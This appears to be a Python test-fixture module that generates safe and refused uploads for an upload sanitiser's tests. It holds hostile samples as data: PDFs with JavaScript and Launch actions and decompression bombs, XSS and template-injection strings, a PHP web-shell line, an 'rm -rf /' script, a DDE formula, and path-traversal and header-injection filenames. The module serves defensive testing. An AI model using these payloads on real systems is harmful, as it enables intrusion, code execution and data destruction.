"""PDFs, texts and what is neither, sent to do harm. All made here; see `hostile_pictures.py`."""

import io
import zipfile
import zlib
from typing import Any

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from .hostile_pictures import CANARY, JPEG, REFUSED_PICTURES, SAFE_PICTURES, SCRIPT, XMP, exif, saved, sheet

Name, Text = NameObject, TextStringObject
WORDS = b"BT /F1 12 Tf 72 700 Td (Words that are seen) Tj ET"


def drawn(**more: Any) -> PdfWriter:
    """One page with words on it."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 400)
    content = DecodedStreamObject()
    content.set_data(more.pop("words", WORDS))
    page[Name("/Contents")] = writer._add_object(content)
    font = {"/Type": Name("/Font"), "/Subtype": Name("/Type1"), "/BaseFont": Name("/Helvetica")}
    page[Name("/Resources")] = of({"/Font": of({"/F1": of(font)}), **more})
    return writer


def of(values: dict[str, Any]) -> DictionaryObject:
    return DictionaryObject({Name(key): value for key, value in values.items()})


def bytes_of(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _with_catalog(**values: Any) -> bytes:
    writer = drawn()
    for key, value in values.items():
        writer.root_object[Name(f"/{key}")] = value
    return bytes_of(writer)


def _with_page(**values: Any) -> bytes:
    writer = drawn()
    for key, value in values.items():
        writer.pages[0][Name(f"/{key}")] = value
    return bytes_of(writer)


def _deed(kind: str, **values: Any) -> DictionaryObject:
    return of({"/S": Name(kind), **{f"/{key}": value for key, value in values.items()}})


def _note(kind: str, **values: Any) -> ArrayObject:
    """A page's list of one annotation."""
    box = ArrayObject(NumberObject(n) for n in (0, 0, 90, 90))
    return ArrayObject([of({"/Type": Name("/Annot"), "/Subtype": Name(kind), "/Rect": box, **values})])


def _javascript() -> DictionaryObject:
    return _deed("/JavaScript", JS=Text(f"app.alert('{CANARY}')"))


def _attached() -> bytes:
    writer = drawn()
    writer.add_attachment("harm.exe", CANARY.encode())
    return bytes_of(writer)


def _by_name() -> bytes:
    names = ArrayObject([Text("x"), _javascript()])
    return _with_catalog(Names=of({"/JavaScript": of({"/Names": names})}))


def _locked(user: str, owner: str) -> bytes:
    writer = drawn()
    writer.encrypt(user, owner, algorithm="RC4-128")
    return bytes_of(writer)


def _photo(data: bytes, filters: Any, width: int = 60, height: int = 40) -> bytes:
    """A page that shows a picture as it lies in the file."""
    picture = StreamObject()
    picture._data = data
    values = {
        "/Type": Name("/XObject"), "/Subtype": Name("/Image"), "/Width": NumberObject(width), "/Filter": filters,
        "/Height": NumberObject(height), "/ColorSpace": Name("/DeviceRGB"), "/BitsPerComponent": NumberObject(8),
    }  # fmt: skip
    picture.update({Name(key): value for key, value in values.items()})
    writer = drawn(words=b"q 60 0 0 40 0 0 cm /P Do Q " + WORDS)
    writer.pages[0]["/Resources"][Name("/XObject")] = of({"/P": writer._add_object(picture)})
    return bytes_of(writer)


def _noted() -> bytes:
    writer = drawn()
    writer.add_metadata({"/Author": CANARY, "/Producer": CANARY, "/Title": CANARY})
    notes = DecodedStreamObject()
    notes.set_data(XMP)
    writer.root_object[Name("/Metadata")] = writer._add_object(notes)
    writer.pages[0][Name("/PieceInfo")] = of({"/App": of({"/Private": Text(CANARY)})})
    writer.pages[0][Name("/LastModified")] = Text(f"D:2026{CANARY}")
    writer.add_outline_item(title=CANARY, page_number=0)
    return bytes_of(writer)


def _changed_later() -> bytes:
    """First a page with the name, then one without: both are in the file."""
    first = bytes_of(drawn(words=b"BT (" + CANARY.encode() + b") Tj ET"))
    writer = PdfWriter(io.BytesIO(first), incremental=True)
    content = DecodedStreamObject()
    content.set_data(WORDS)
    writer.pages[0][Name("/Contents")] = writer._add_object(content)
    return bytes_of(writer)


def _bomb() -> bytes:
    stream = StreamObject()
    stream._data = zlib.compress(b" " * 110_000_000)
    stream[Name("/Filter")] = Name("/FlateDecode")
    writer = drawn()
    writer.pages[0][Name("/Contents")] = writer._add_object(stream)
    return bytes_of(writer)


def _pages(count: int) -> bytes:
    writer = PdfWriter()
    for _ in range(count):
        writer.add_blank_page(10, 10)
    return bytes_of(writer)


def _biting_its_tail() -> bytes:
    writer = drawn()
    pages = writer.root_object["/Pages"].get_object()
    pages[Name("/Kids")] = ArrayObject([writer.root_object.raw_get("/Pages")])
    return bytes_of(writer)


def _archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


PDF = bytes_of(drawn())
DCT, JPX, FLATE = Name("/DCTDecode"), Name("/JPXDecode"), Name("/FlateDecode")
LINK = _note("/Link", **{"/A": _deed("/URI", URI=Text("https://site.example/post"))})

SAFE_FILES: dict[str, tuple[bytes, str]] = {
    "PDF as it should be": (PDF, "pdf"),
    "PDF with notes": (_noted(), "pdf"),
    "PDF that was changed later": (_changed_later(), "pdf"),
    "PDF with a page behind it": (PDF + SCRIPT, "pdf"),
    "PDF with an archive behind it": (PDF + _archive(x=CANARY.encode()), "pdf"),
    "PDF with a photograph that has notes": (_photo(saved(sheet(), "JPEG", exif=exif()), DCT), "pdf"),
    "PDF with a photograph in waves": (_photo(saved(sheet(), "JPEG", exif=exif(), progressive=True), DCT), "pdf"),
    "PDF with a photograph and more behind it": (_photo(JPEG + CANARY.encode(), DCT), "pdf"),
    "PDF that opens on its second page": (
        _with_catalog(OpenAction=ArrayObject([NumberObject(0), Name("/Fit")])),
        "pdf",
    ),
    "PDF with a link": (_with_page(Annots=LINK), "pdf"),
    "PDF whose reader is told who wrote": (
        _with_page(Annots=_note("/Text", **{"/T": Text(CANARY), "/NM": Text(CANARY), "/Contents": Text("seen")})),
        "pdf",
    ),
    "text": (b"It was in the class chat.\r\nOn Monday.", "text"),
    "text with marks": ("\ufeffCafé, 8:30\u202etxt.exe\x1b[2J\x07".encode(), "text"),
    "text in UTF-16": ("Café at 8:30 in the class chat".encode("utf-16"), "text"),
    "text of an old office": ("Café, £5, “hello”, seen at 8:30".encode("cp1252"), "text"),
    "text with emoji": ("👩‍👧 said: no ❤️".encode(), "text"),
    "text in Arabic": ("مرحبا بكم في المدرسة".encode(), "text"),
    "text with a formula": (b"=cmd|'/c calc'!A1\nhello", "text"),
    "text with template signs": (b"{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x}", "text"),
    "text of a chat export": (b"12/10/2026, 19:30 - Mum: <Media omitted>\n12/10/2026 - I <3 you", "text"),
    "text that tests scanners": (b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", "text"),
}

REFUSED_FILES: dict[str, bytes] = {
    "nothing": b"",
    "blank lines": b"\r\n \t\n",
    "only a mark": b"\xef\xbb\xbf",
    "only hidden signs": "\u200b\u202e\u2066".encode(),
    "NULs": bytes(5000),
    "noise": bytes(range(256)) * 20,
    "high bytes": bytes(range(0xA1, 0x100)) * 30,
    "PDF of five bytes": b"%PDF-",
    "PDF cut in half": PDF[: len(PDF) // 2],
    "PDF that is noise": b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF",
    "PDF that begins late": b"GIF89" + PDF,
    "PDF behind a line": b"hello\n" + PDF,
    "PDF without a page": bytes_of(PdfWriter()),
    "PDF with too many pages": _pages(301),
    "PDF that bites its tail": _biting_its_tail(),
    "PDF with a program at its start": _with_catalog(OpenAction=_javascript()),
    "PDF with a program, by name": _by_name(),
    "PDF with a program on a page": _with_page(AA=of({"/O": _javascript()})),
    "PDF with a program under a link": _with_page(Annots=_note("/Link", **{"/A": _javascript()})),
    "PDF with a program under a chain": _with_page(
        Annots=_note("/Link", **{"/A": _deed("/URI", URI=Text("https://a.example"), Next=_javascript())})
    ),
    "PDF with a program, spelled oddly": _with_catalog(OpenAction=_javascript()).replace(
        b"/JavaScript", b"/J#61vaScript"
    ),
    "PDF that starts a program": _with_catalog(OpenAction=_deed("/Launch", F=Text("cmd.exe"))),
    "PDF that sends a form": _with_page(
        Annots=_note("/Widget", **{"/A": _deed("/SubmitForm", F=Text("https://x.example"))})
    ),
    "PDF that reads data in": _with_page(Annots=_note("/Link", **{"/A": _deed("/ImportData", F=Text("x.fdf"))})),
    "PDF that opens another file": _with_page(
        Annots=_note("/Link", **{"/A": _deed("/GoToR", F=Text(r"\\host\share"))})
    ),
    "PDF with a file inside": _attached(),
    "PDF with a file pinned on a page": _with_page(
        Annots=_note("/FileAttachment", **{"/FS": of({"/Type": Name("/Filespec")})})
    ),
    "PDF that is a portfolio": _with_catalog(Collection=of({"/Type": Name("/Collection")})),
    "PDF with a film": _with_page(Annots=_note("/RichMedia")),
    "PDF with a screen": _with_page(Annots=_note("/Screen")),
    "PDF with a model": _with_page(Annots=_note("/3D")),
    "PDF with a form of the other kind": _with_catalog(AcroForm=of({"/XFA": Text(CANARY)})),
    "PDF that is locked": _locked("secret", "more"),
    "PDF that is locked against changes": _locked("", "more"),
    "PDF that is a bomb": _bomb(),
    "PDF with a huge picture": _photo(JPEG, DCT, 20_000, 20_000),
    "PDF with a picture of a rare kind": _photo(b"\0\0\0\x0cjP  " + CANARY.encode(), JPX),
    "PDF with a picture packed twice": _photo(
        zlib.compress(saved(sheet(), "JPEG", exif=exif())), ArrayObject([FLATE, DCT])
    ),
    "PDF with a broken photograph": _photo(b"\xff\xd8\xff\xe1\xff\xffx", DCT),
    "web page": b"<!doctype html><title>x</title>" + SCRIPT,
    "web page without a head": b"hello <script src=//x.example></script>",
    "web page in a frame": b"Look: <iframe src='javascript:alert(1)'>",
    "web page in UTF-16": "<html><body onload=alert(1)>".encode("utf-16"),
    "web page behind a mark": b"\xef\xbb\xbf <html>" + SCRIPT,
    "picture tag alone": b"<img src=x onerror=alert(1)>",
    "XML with an entity": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>",
    "saved web page": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + SCRIPT,
    "saved e-mail": b"From: a@b.example\nMIME-Version: 1.0\nContent-Type: text/plain\n\nhello",
    "PHP": b"<?php system($_GET['x']); ?>",
    "shell program": b"#!/bin/sh\nrm -rf /\n",
    "RTF": b"{\\rtf1\\ansi{\\info{\\author " + CANARY.encode() + b"}}}",
    "archive": _archive(harm=b"x"),
    "archive that is a bomb": _archive(harm=b"\0" * 50_000_000),
    "Word document": _archive(word__document=b"<w/>", Content_Types=b"<x/>"),
    "old Word document": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "program for Windows": b"MZ\x90\0\x03" + bytes(60) + b"PE\0\0",
    "program for Linux": b"\x7fELF\x02\x01\x01" + bytes(40),
    "program for Java": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(40),
    "film": b"\0\0\0\x18ftypmp42\0\0\0\0isom" + bytes(40),
    "film of the web": b"\x1aE\xdf\xa3" + bytes(40),
    "sound": b"ID3\x04\0\0\0\0\0\x23" + bytes(40),
    "sound in RIFF": b"RIFF\x24\0\0\0WAVEfmt " + bytes(40),
    "database": b"SQLite format 3\0" + bytes(80),
    "pressed file": b"\x1f\x8b\x08\0" + bytes(40),
    "picture in writing": b"data:image/png;base64,<svg onload=alert(1)>",
}

# Names, each on a plain picture: kept, under a name that no disk, header or reader minds.
NAMES = (
    "../../../etc/passwd", "C:\\Windows\\system32\\cmd.exe", "/abs/olute.png", "..", ".", "", "\0.png", "a\0b.jpg.exe",
    "photo\u202egnp.exe", "\u202e\u2066\u2069", "x" * 5000 + ".png", "é" * 300 + ".png", 'a"; filename="b.html',
    "a\r\nSet-Cookie: x=1.png", "<script>alert(1)</script>.png", "{{ 7*7 }}.png", "con", "aux.png", ".htaccess",
    "picture.html", "picture.svg", "picture.php.png", "picture.png.php", "%2e%2e%2fx.png", "~root", "a|b;c&d`e$(f).png",
    "\ufeff\u200b.png", "Foto\u0301.png", "日本.png", "🙂.png", "a\\..\\..\\b.png",
)  # fmt: skip

SAFE = {**SAFE_PICTURES, **SAFE_FILES}
REFUSED = {**REFUSED_PICTURES, **REFUSED_FILES}


def everything_in(content: bytes) -> bytes:
    """A PDF with its packed streams laid open, anything else as it is."""
    if not content.startswith(b"%PDF-"):
        return content
    reader = PdfReader(io.BytesIO(content))
    laid_open = [content]
    for number in range(1, int(reader.trailer["/Size"])):
        part = reader.get_object(number)
        if isinstance(part, StreamObject) and "/DCTDecode" not in str(part.get("/Filter", "")):
            laid_open.append(part.get_data())
    return b"\n".join(laid_open)
